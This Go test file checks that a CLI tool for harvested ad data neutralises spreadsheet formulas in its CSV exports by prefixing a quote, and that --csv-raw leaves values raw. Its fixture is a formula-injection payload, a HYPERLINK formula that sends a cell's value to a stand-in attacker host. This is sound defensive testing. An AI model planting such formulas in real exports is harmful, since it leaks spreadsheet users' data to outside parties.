package commands_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"adharvest/folder"
	"adharvest/sink"
)

// TestCSVFormulasAreNeutralised: an advertiser called "=HYPERLINK(…)" reaches
// `sql --format csv` and `export --csv` with a leading single quote, so that
// a spreadsheet shows it as text; a negative number stays a number; and
// --csv-raw writes the value as it is.
func TestCSVFormulasAreNeutralised(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "h")
	name := `=HYPERLINK("https://evil.example/?q="&B2,"Acme")`
	biz := int64(-7)
	row := sink.AdRow{AdFields: sink.AdFields{AdID: 1, BusinessName: &name, BusinessID: &biz, VideoURLs: []string{}, ImageURLs: []string{}},
		Provenance: sink.Provenance{FetchedAt: time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC), RunID: "r", ShardID: "s"}}
	if err := sink.WriteParquet(folder.New(dir).Part(sink.Ads, "FR", "x", 0), []sink.AdRow{row}); err != nil {
		t.Fatal(err)
	}
	const q = "SELECT business_name, business_id, '-' || 'x' AS dash FROM ads"
	quoted := strings.ReplaceAll(name, `"`, `""`)

	code, out, stderr := runCLI(t, "sql", "--out", dir, "--format", "csv", q)
	if want := "business_name,business_id,dash\n\"'" + quoted + "\",-7,'-x\n"; code != 0 || out != want {
		t.Errorf("sql --format csv: exit %d %s\ngot  %q\nwant %q", code, stderr, out, want)
	}
	code, out, stderr = runCLI(t, "sql", "--out", dir, "--format", "csv", "--csv-raw", q)
	if want := "business_name,business_id,dash\n\"" + quoted + "\",-7,-x\n"; code != 0 || out != want {
		t.Errorf("sql --csv-raw: exit %d %s\ngot  %q\nwant %q", code, stderr, out, want)
	}
	file := filepath.Join(t.TempDir(), "o.csv")
	if code, _, stderr = runCLI(t, "sql", "--out", dir, "--format", "csv", "--output", file, q); code != 0 {
		t.Fatalf("--output: exit %d %s", code, stderr)
	}
	if b, _ := os.ReadFile(file); !strings.Contains(string(b), `"'=HYPERLINK(`) {
		t.Errorf("--output file: %q", b)
	}
	// JSON and tables are not for spreadsheets: --csv-raw there is a mistake.
	code, _, stderr = runCLI(t, "sql", "--out", dir, "--format", "json", "--csv-raw", q)
	checkUsageError(t, code, stderr, "--csv-raw")

	for _, tc := range []struct {
		raw  bool
		want string
	}{{false, "'" + name}, {true, name}} {
		out := filepath.Join(t.TempDir(), "csv")
		args := []string{"export", "--out", dir, "--csv", out}
		if tc.raw {
			args = append(args, "--csv-raw")
		}
		if code, _, stderr := runCLI(t, args...); code != 0 {
			t.Fatalf("%v: exit %d %s", args, code, stderr)
		}
		f, err := os.Open(filepath.Join(out, "ads.csv"))
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(f).ReadAll()
		f.Close()
		if err != nil || len(recs) != 2 {
			t.Fatalf("ads.csv: %v %v", recs, err)
		}
		cell := map[string]string{}
		for i, h := range recs[0] {
			cell[h] = recs[1][i]
		}
		if cell["business_name"] != tc.want || cell["business_id"] != "-7" {
			t.Errorf("%v: business_name %q business_id %q, want %q and -7", args, cell["business_name"], cell["business_id"], tc.want)
		}
	}
	code, _, stderr = runCLI(t, "export", "--out", dir, "--duckdb", filepath.Join(t.TempDir(), "x.duckdb"), "--csv-raw")
	checkUsageError(t, code, stderr, "--csv-raw")
}
